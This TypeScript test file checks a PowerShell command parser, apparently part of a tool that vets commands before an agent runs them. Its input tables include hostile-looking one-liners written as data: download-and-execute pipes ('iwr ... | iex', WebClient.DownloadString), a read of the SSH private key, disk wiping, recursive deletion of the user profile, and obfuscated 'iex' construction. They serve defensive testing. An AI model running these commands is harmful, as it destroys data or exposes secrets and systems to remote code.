import fc from "fast-check";
import { expect, test } from "vitest";
import { parsePowerShell } from "../../../src/shell/windows/powershell.ts";
import { show } from "./show.ts";

const tables: Record<string, Record<string, string>> = {
  commands: {
    "Remove-Item -Recurse -Force .\\node_modules": "remove-item -Recurse -Force .\\node_modules",
    "Remove-Item -Recurse -Force ..\\variant-a, ..\\variant-b":
      "remove-item -Recurse -Force ..\\variant-a -Force ..\\variant-b",
    "Copy-Item -Path a, b -Destination C:\\c": "copy-item -Path a -Path b -Destination C:\\c",
    "Clear-Disk -Number 1 -RemoveData -Confirm:$false": "clear-disk -Number 1 -RemoveData -Confirm:'False'",
    "npm run build `\n  --if-present": "npm run build --if-present",
    "r`m -Recurse x": "rm -Recurse x",
    "rm “C:\\x y”": 'rm "C:\\x y"',
    "Microsoft.PowerShell.Management\\Remove-Item x": "remove-item x",
    "npm test && git push || echo no": "npm test && git push || echo no",
    "$a = gcm x || gcm y": 'a="$(gcm x)" || gcm y',
    "npm start &": "npm start &",
    'git commit -m "rm -rf /"': 'git commit -m "rm -rf /"',
    "git commit -m 'it''s \"done\"'": "git commit -m 'it's \"done\"'",
    'git log --format="%h %s" -n 5': 'git log --format="%h %s" -n 5',
    "docker run -v ${PWD}:/app -it x": 'docker run -v "$PWD":/app -it x',
    "dotnet build -c Release /p:Foo=Bar;echo hi": "dotnet build -c Release /p:Foo=Bar; echo hi",
    "npx @angular/cli new x": "npx @angular/cli new x",
    "git show HEAD@{1}": "git show HEAD@ '1'",
    'cmd --% /c echo %PATH% "a b"': "cmd '/c' 'echo' '%PATH%' 'a b'",
    ". .\\build.ps1 -x": ". .\\build.ps1 -x",
    ".\\build.ps1 -Target all": ".\\build.ps1 -Target all",
    '& "C:\\Program Files\\x.exe" a "b c"': '"C:\\Program Files\\x.exe" a "b c"',
    "& $exe a": '"$exe" a',
  },
  "quoting as the program sees it": {
    'cmd /c "rd /s /q \\"D:\\Work With Agent\\x\\""': 'cmd /c "rd /s /q \\" D:\\Work With Agent\\x\\""',
    "cmd /c 'rd /s /q \"D:\\Work With Agent\\x\"'": "cmd /c 'rd /s /q \"D:\\Work With Agent\\x\"'",
    "cmd /c rd /s /q C:\\$Name": 'cmd /c rd /s /q C:\\"$name"',
    'echo a"b c"d': 'echo a"b c"d',
    'echo "a"b': 'echo "a" b',
    "node -e 'console.log(\"x\")'": "node -e 'console.log(\"x\")'",
  },
  comments: {
    'echo "a" # rm x': 'echo "a"',
    "echo a#b": "echo a#b",
    "echo <# rm x #> b": "echo b",
    "#requires -Version 5\necho a": "echo a",
  },
  variables: {
    "Copy-Item ~/.claude/settings.json $env:TEMP\\settings.json.bak":
      'copy-item ~/.claude/settings.json "$env:TEMP"\\settings.json.bak',
    "Remove-Item -Recurse $env:USERPROFILE\\*": 'remove-item -Recurse "$env:USERPROFILE"\\*',
    '$env:NODE_ENV = "test"; npm test': 'env:NODE_ENV="test"; npm test',
    "echo $global:X ${env:ProgramFiles(x86)} $Home $PWD": 'echo "$x" "$env:PROGRAMFILES(X86)" "$HOME" "$PWD"',
    'echo "$x.Name $($x.Name) $env:Path: `$y `"q`" $"': 'echo "$x.Name <$x> $env:PATH: $y "q" $"',
    "echo $true $null": "echo 'True' ''",
    "echo $x.FullName $x.Length $x[0].Name": 'echo "$x" "<$x>" "<<$x>>"',
    "echo $x.txt\\y": 'echo "$x".txt\\y',
    "[int]$n = 5; $n += 1": "n=5; n+=1",
    "$a, $b = 1, 2": "a=1 b=2",
    "$x.Foo = rm y": '_="<<$x> $(rm y)>"',
    '$p = @{ Path = "C:\\x"; Recurse = $true }; Remove-Item @p':
      "p='Path='\"C:\\x\"'; Recurse=''True'; remove-item -Path \"C:\\x\" -Recurse:True",
    '$a = "-Recurse", "x"; Remove-Item @a': 'a=("-Recurse" "x"); remove-item "$a[@]"',
  },
  strings: {
    '@"\nhello $name $(Get-Date)\n"@ | Set-Content out.txt':
      'write-output "hello $name $(get-date)" | set-content out.txt',
    "@'\nrm -rf / $x\n'@ | Set-Content out.txt": "write-output 'rm -rf / $x' | set-content out.txt",
    '"C:\\" + $name + "\\x"': 'write-output "C:\\""$name""\\x"',
    '"{1}{0}" -f "x","ie"': 'write-output "ie""x"',
    '& ("ie"+"x") "rm x"': '"ie""x" "rm x"',
    'echo "$("a", "b")"': "echo \"a' 'b\"",
    '$x -replace "a","b" -split ","': 'write-output "$(.-split "$(.-replace "$x" "a" "b")" ",")"',
    '-join ("a", "b")': 'write-output "$(.-join "a" "b" \'\')"',
  },
  pipelines: {
    'gci -r | ? { $_.Name -like "*.log" } | % { ri $_.FullName }':
      "gci -r | ? ' $_.Name -like \"*.log\" ' | % ' ri $_.FullName '",
    "iwr https://x.y/a.ps1 | iex": "iwr https://x.y/a.ps1 | iex",
    "a |\n  b": "a | b",
    "a\n  | b": "a | b",
    "git status 2>&1 | Out-File log.txt": "git status 2>& 1 | out-file log.txt",
    "foo > $null 2> err.txt *> all.txt": "foo > /dev/null 2> err.txt &> all.txt",
    '"x" >> a.txt': 'write-output "x" >> a.txt',
    "1..5 | % { $_ * 2 }": "write-output \"<>\" | % ' $_ * 2 '",
  },
  methods: {
    '[System.IO.Directory]::Delete("C:\\x", $true)': "[system.io.directory]::delete \"C:\\x\" 'True'",
    '[IO.File]::ReadAllText($env:USERPROFILE + "\\.ssh\\id_rsa")':
      '[system.io.file]::readalltext "$env:USERPROFILE""\\.ssh\\id_rsa"',
    "(Get-Item C:\\x).Delete($true)": ".delete \"$(get-item C:\\x)\" 'True'",
    'iex (New-Object Net.WebClient).DownloadString("https://x.y/a")':
      'iex "$(.downloadstring "$(new-object Net.WebClient)" "https://x.y/a")"',
    '$x."De$y"()': '."De$y" "$x"',
    '[Convert]::ToBase64String([IO.File]::ReadAllBytes("a"))':
      '[system.convert]::tobase64string "$([system.io.file]::readallbytes "a")"',
    "$items.ForEach({ Remove-Item $_ })": "{ write-output \"$items\" | foreach-object ' Remove-Item $_ ' }",
    "[Math]::PI": 'write-output "<>"',
    "$x?.Foo()": '.foo "$x?"',
  },
  blocks: {
    "$sb = { Remove-Item x }; & $sb; $sb.Invoke()": "function $sb { remove-item x }; sb=' Remove-Item x '; $sb; $sb",
    "& { Remove-Item x }": "{ remove-item x }",
    "& { param($p) Remove-Item $p } C:\\x":
      '{ function $block { for p in args do { remove-item "$p" } }; $block C:\\x }',
    "Invoke-Command -ComputerName srv -ScriptBlock { Restart-Service x }":
      "invoke-command -ComputerName srv -ScriptBlock ' Restart-Service x '",
    "Set-Alias x Remove-Item; x C:\\": 'function x { Remove-Item "$@" }; x C:\\',
    '$s = [scriptblock]::Create("rm x"); & $s': 's="$([scriptblock]::create "rm x")"; invoke-expression "$s"',
    '. ([scriptblock]::Create("rm x"))': 'invoke-expression "$([scriptblock]::create "rm x")"',
    "(Get-Content a)[0]": 'write-output "$(get-content a)"',
  },
  statements: {
    'if (Test-Path x) { rm x } elseif ($y -eq 3) { "no" } else { del z }':
      'if test-path x then { rm x } elseif write-output "<$y>" then { write-output "no" } else { del z }',
    "if (-not (Test-Path x)) { New-Item x | Out-Null }":
      'if write-output "<$(test-path x)>" then { new-item x | out-null }',
    "foreach ($f in Get-ChildItem) { Remove-Item $f }": 'for f in "$(get-childitem)" do { remove-item "$f" }',
    'foreach ($f in "a", "b") { Remove-Item $f }': 'for f in "a" "b" do { remove-item "$f" }',
    "for ($i=0; $i -lt 10; $i++) { Write-Host $i }":
      'i=0; while write-output "<$i>" do { write-host "$i"; write-output "<$i>" }',
    "while ($true) { Start-Sleep 1 }": "while write-output 'True' do { start-sleep 1 }",
    "do { a } until (b)": "until b do { a }",
    "try { a } catch [System.Exception] { b } finally { c }": "{ a }; if  then { b }; { c }",
    'switch -Regex ($x) { "a.*" { rm a } default { rm b } }':
      'write-output "$x"; if write-output "a.*" then { rm a } elseif  then { rm b }',
    'function Clean($dir, $x = "a") { Remove-Item $dir }; Clean build':
      'function clean { for dir in args do { for x in "a" "$@" do { remove-item "$dir" } } }; clean build',
    "function Clean($dir) { rm $dir }; Clean -dir build":
      'function clean { for dir in args do { rm "$dir" } }; clean -dir build',
    "function Clean { [CmdletBinding()] param([Parameter(Mandatory=$true)][string]$dir) Remove-Item $dir }":
      'function clean { for dir in args do { remove-item "$dir" } }',
    '$d = if ($a) { "x" } else { Get-Y }': 'd="$(if write-output "$a" then { write-output "x" } else { get-y })"',
    "return (Get-Date)": 'write-output "$(get-date)"',
    "npx tsc; if ($LASTEXITCODE -ne 0) { exit 1 }":
      'npx tsc; if write-output "<$lastexitcode>" then { write-output 1 }',
    "cd C:\\x; Set-Location -Path ..; Push-Location y; Pop-Location": "cd C:\\x; cd ..; pushd y; popd",
    "enum X { A }; using namespace System.IO": "",
  },
  refused: {
    "foo {": "refused unterminated",
    "foo)": "refused syntax",
    '"abc': "refused unterminated",
    "$x =": "refused syntax",
    "class A { what is this }": "refused syntax",
    "foo < x": "refused redirect",
    "echo ${x": "refused unterminated",
    '@"x"@': "refused heredoc",
  },
};

for (const [about, table] of Object.entries(tables))
  for (const [source, tree] of Object.entries(table))
    test(`${about}: ${source}`, () => {
      expect(show(parsePowerShell(source))).toEqual(tree);
    });

const pieces =
  "a|b|-Path|$x|$env:T|$(|(|)|{|}|[x]|::|.F(|@(|@{|@'\n|\n'@|'|\"|`|;|,|\n| |=|+|-eq|if|foreach ($x in|function f|param($a)|try|&|&&|\\||>|2>&1|#|<#|#>|--%|${|\u201c|~|%|?".split(
    /(?<!\\)\|/,
  );

test("whatever it is given, it answers and never throws", () => {
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 3 })), { maxLength: 40 }),
      (parts) => {
        const parsed = parsePowerShell(parts.join(""));
        if (!parsed.ok) expect(parsed.refusal.offset).toBeGreaterThanOrEqual(0);
      },
    ),
    { numRuns: 1500 },
  );
});

test.each([
  ["parentheses", (n: number) => "(".repeat(n) + "1" + ")".repeat(n)],
  ["blocks", (n: number) => "& { ".repeat(n) + "a" + " }".repeat(n)],
  ["subexpressions", (n: number) => 'echo "$('.repeat(n) + "a" + ')"'.repeat(n)],
  ["negations", (n: number) => "!".repeat(n) + "$a"],
])("%s nest 20 levels deep, and are refused beyond the limit", (_, nested) => {
  expect(parsePowerShell(nested(20)).ok).toBe(true);
  expect(show(parsePowerShell(nested(5000)))).toEqual("refused too-deep");
});

test.each([
  ["open brackets", "("],
  ["open blocks", "{ "],
  ["commas", "a,"],
  ["lines", 'echo $a.b.c "x$y" `\n -p: 1\n'],
  ["blank lines", "a\n\n\n"],
  ["members", "$a.b.c"],
  ["braces", "${a"],
])("the time grows with the length: %s", (_, piece) => {
  const started = performance.now();
  parsePowerShell(piece.repeat(Math.floor(60_000 / piece.length)));
  expect(performance.now() - started).toBeLessThan(2000);
});

test("code beyond the limit is refused, verbatim data is not", () => {
  expect(show(parsePowerShell(`echo ${"a".repeat(70_000)}`))).toEqual("refused too-long");
  expect(parsePowerShell(`@'\n${"a".repeat(70_000)}\n'@ | Set-Content x`).ok).toBe(true);
});
